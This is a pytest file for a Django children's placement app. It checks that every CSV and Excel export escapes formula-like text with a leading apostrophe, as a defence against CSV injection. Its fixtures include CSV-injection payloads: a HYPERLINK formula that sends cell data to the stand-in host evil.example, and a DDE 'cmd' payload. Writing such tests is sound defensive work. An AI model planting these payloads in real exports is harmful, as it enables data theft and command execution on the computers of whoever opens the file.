"""Text that looks like a formula comes out of every download as text (OWASP "CSV injection"; issue 14).

A case reference, team, provider name or cost description typed in a form or imported can start with
``=``, ``+``, ``-`` or ``@``. Every CSV the app writes carries such a cell with a leading apostrophe and
every Excel cell is a string, never a formula; genuine numbers (a negative amount) stay numbers.
"""

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from panel.models import PanelMeeting, PanelReview
from placements.exports import as_text
from tests.factories import make_child, make_cost_line, make_placement, make_provider

pytestmark = pytest.mark.django_db

CASE_REF = "=1+2"
TEAM = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
PROVIDER = "@SUM(1+1)"
DESCRIPTION = "+cmd|' /C calc'!A0"
DANGEROUS = (CASE_REF, TEAM, PROVIDER, DESCRIPTION)


@pytest.mark.parametrize("value, shown", [
    ("=1+2", "'=1+2"), ("+44 1905 000000", "'+44 1905 000000"), ("-12.50", "-12.50"), ("-", "'-"),
    ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-nan", "'-nan"), ("Oak House", "Oak House"),
    ("", ""), (12, 12), (Decimal("-3.5"), Decimal("-3.5")), (None, None),
])
def test_the_rule_for_one_cell(value, shown):
    assert as_text(value) == shown


@pytest.fixture
def world():
    child = make_child(case_ref=CASE_REF, team=TEAM, given_name="-Sam", family_name="@Tester")
    placement = make_placement(child, make_provider(name=PROVIDER, urn="SCX1"), start=date(2024, 1, 1))
    make_cost_line(placement, "9500", placement.start, description=DESCRIPTION, kind="additional")
    return child


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def cells_of_xlsx(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
    return [cell.value for cell in cells]


def assert_safe(cells, expected_present=DANGEROUS):
    text = [cell for cell in cells if isinstance(cell, str)]
    assert not [cell for cell in text if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and cell not in ("-",))
                and not cell.lstrip("-").replace(".", "").replace(",", "").isdigit()]
    for value in expected_present:
        if any(value in cell for cell in text):
            assert f"'{value}" in text or any(cell.startswith("'") and value in cell for cell in text)


@pytest.mark.parametrize("url_name", ["child_list", "placement_list", "provider_list"])
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_list_downloads_carry_formulas_as_text(admin_client, world, url_name, export):
    response = admin_client.get(reverse(url_name) + f"?_export={export}")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = cells_of_csv(content) if export == "csv" else cells_of_xlsx(content)
    assert_safe(cells)
    assert any(isinstance(cell, str) and cell.startswith("'=") for cell in cells) or url_name == "provider_list"


def test_the_weekly_workbook_and_tables_carry_formulas_as_text(admin_client, world):
    url = reverse("tracker_weekly") + "?week_ending=2024-01-07"
    cells = cells_of_xlsx(admin_client.get(url + "&_export=workbook").content)
    assert "'=1+2" in cells and f"'{PROVIDER}" in cells
    assert_safe(cells)
    assert_safe(cells_of_csv(admin_client.get(url + "&_export=csv&table=placements").content))


def test_the_residential_tracker_lists_the_additional_cost_as_text(admin_client, world):
    cells = cells_of_xlsx(admin_client.get(reverse("tracker_residential") + "?month=2024-01&_export=workbook").content)
    assert any(isinstance(cell, str) and cell.startswith("'") and DESCRIPTION in cell for cell in cells)
    assert_safe(cells)


def test_the_agenda_downloads_carry_formulas_as_text(admin_client, world):
    meeting = PanelMeeting.objects.create(date=date(2024, 1, 11), chair="Chair")
    PanelReview.objects.create(meeting=meeting, child=world, placement=world.placements.get(), reasons=["NEAR_18"],
                               reason_texts=["=1+1 reason"], weekly_cost=Decimal("9500"), position=1)
    for export in ("csv", "xlsx"):
        content = admin_client.get(reverse("panel_pack", args=[meeting.pk]) + f"?_export={export}").content
        cells = cells_of_csv(content) if export == "csv" else cells_of_xlsx(content)
        assert "'=1+2" in cells
        assert_safe(cells)


def test_the_data_quality_and_audit_downloads_carry_formulas_as_text(admin_client, world):
    quality = admin_client.get(reverse("data_quality") + "?section=no-rating&_export=xlsx").content
    assert "'=1+2" in cells_of_xlsx(quality)
    response = admin_client.get(reverse("audit_changes") + "?_export=csv")
    audit = b"".join(response.streaming_content) if response.streaming else response.content
    assert_safe(cells_of_csv(audit), expected_present=())


def test_the_commands_write_formulas_as_text(world, tmp_path):
    from django.core.management import call_command

    out = io.StringIO()
    call_command("weekly_tracker", "--week-ending", "2024-01-07", "--format", "csv", stdout=out)
    assert "'=1+2" in cells_of_csv(out.getvalue().encode())
    call_command("weekly_tracker", "--week-ending", "2024-01-07", "--format", "xlsx", "--output", str(tmp_path / "w.xlsx"))
    assert "'=1+2" in cells_of_xlsx((tmp_path / "w.xlsx").read_bytes())


def test_every_excel_download_says_it_holds_personal_data(admin_client, world):
    from placements.exports import PERSONAL_DATA_WARNING

    for url in (reverse("child_list") + "?_export=xlsx",
                reverse("tracker_weekly") + "?week_ending=2024-01-07&_export=workbook"):
        book = openpyxl.load_workbook(io.BytesIO(admin_client.get(url).content))
        assert book.properties.description == PERSONAL_DATA_WARNING
        assert all(sheet.oddFooter.center.text == PERSONAL_DATA_WARNING for sheet in book.worksheets)


# --- Every download of every page (issue 14's "Done when") -----------------------------------------------

#: Records the app derives or keeps for itself, whose text is never typed by anyone.
INTERNAL = {"caresegment", "daychange", "childdaychanges", "datachange", "dataversion", "importupload", "importrecord"}


def _fill_every_free_text_field_with_formulas() -> int:
    """Every free-text field (no choices, room for a formula) of every record of the app's own models set to
    ``=1+<id>``, as if typed in a form or imported: written with ``update`` so nothing stops it here."""
    from django.apps import apps
    from django.db import models

    # Keys that link records by value (a foreign key to a URN, and the URN a provider is linked by) stay as
    # they are: changing them would break the link, not test the download.
    linked = {(fk.target_field.model, fk.target_field.name) for model in apps.get_models()
              for fk in model._meta.concrete_fields if fk.is_relation and not fk.target_field.primary_key}
    filled = 0
    for model in apps.get_models():
        meta = model._meta
        if meta.app_label not in ("placements", "panel", "tracker") or meta.model_name in INTERNAL:
            continue
        fields = [field for field in meta.concrete_fields
                  if isinstance(field, (models.CharField, models.TextField)) and not field.choices
                  and not field.primary_key and (field.max_length or 100) >= 8
                  and (model, field.name) not in linked and field.name != "urn"]
        for pk in model.objects.values_list("pk", flat=True):
            model.objects.filter(pk=pk).update(**{field.attname: f"=1+{pk}" for field in fields})
            filled += len(fields)
    return filled


def _download_links(html: str) -> set[str]:
    import html as html_module
    import re

    return {html_module.unescape(href) for href in re.findall(r'href="([^"]*_export=[^"]*)"', html)}


def test_every_download_of_every_page_carries_formula_text_as_text(client, admin_user, officer):
    from tests.security.world import build_world, url_for, url_patterns

    from django.utils import timezone

    world = build_world(officer)
    # A placement with no cost line, so the data quality page has rows and offers its downloads.
    make_placement(make_child(case_ref="DQ-1"), start=timezone.localdate() - timedelta(days=30))
    assert _fill_every_free_text_field_with_formulas() > 50
    client.force_login(admin_user)
    checked, escaped = {}, 0
    for name, _route, _pattern in url_patterns():
        if not name or name.startswith("import_"):
            continue
        try:
            url = url_for(name, world, admin_user)
        except LookupError:
            continue
        response = client.get(url)
        if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
            continue
        for link in sorted(_download_links(response.content.decode())):
            target = link if link.startswith("/") else url.split("?")[0] + link
            download = client.get(target)
            assert download.status_code == 200, (name, target, download.status_code)
            content = b"".join(download.streaming_content) if download.streaming else download.content
            kind = download.get("Content-Type", "")
            cells = cells_of_xlsx(content) if "spreadsheet" in kind else cells_of_csv(content)
            assert_safe(cells, expected_present=())
            escaped += sum(1 for cell in cells if isinstance(cell, str) and cell.startswith("'=1+"))
            checked[target] = name
    pages = set(checked.values())
    # The walk reached the downloads people use, so it cannot pass by checking nothing.
    assert {"child_list", "placement_list", "provider_list", "tracker_weekly", "tracker_dashboard",
            "tracker_residential", "data_quality"} <= pages, sorted(pages)
    assert len(checked) >= 40 and escaped > 100, (len(checked), escaped)
